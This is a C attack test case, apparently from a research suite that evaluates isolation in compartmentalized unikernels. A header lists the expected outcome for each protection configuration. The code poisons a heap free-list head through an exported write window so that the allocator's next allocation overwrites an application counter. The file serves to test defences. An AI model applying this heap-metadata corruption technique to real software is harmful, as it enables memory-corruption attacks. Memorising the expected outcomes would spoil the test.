/*
{
  "title": "The lists of free blocks of the unikernel's heap changed in a write window: its next allocation lies over the application's counter, and it overwrites it by itself",
  "precondition": "a write window, as uIO exports it",
  "reference": "Lefeuvre et al., Assessing the Impact of Interface Vulnerabilities in Compartmentalized Software, NDSS 2023; Hedayati et al., Hodor: Intra-Process Isolation for High-Throughput Data Plane Libraries, USENIX ATC 2019",
  "symbols": ["$e9uio_guest4HeapO5lists33_716A2D5EC749879C0742C0AC5ABF80FBLLs6UInt64VvpZ"],
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "completed"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "refused"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"
#include "processor.h"

// The heads of the lists, by the power of two; a block has a header of 16 bytes, behind which a free one has the link to the next.
extern uint64_t *lists __asm__("$e9uio_guest4HeapO5lists33_716A2D5EC749879C0742C0AC5ABF80FBLLs6UInt64VvpZ");

int main(void) {
  ANNOUNCE_BYPASS();
  if (attack_has_keys()) {
    BYPASS_SILENT({
      ushell_enable_write();
      // The header's second word, the distance to the block's start, comes to lie on the counter, the link on the zeros behind it.
      lists[5] = (uint64_t)&count - 8;
      ushell_disable_write();
      return 0;
    });
  }
  GOAL_COUNT();
  return 0;
}
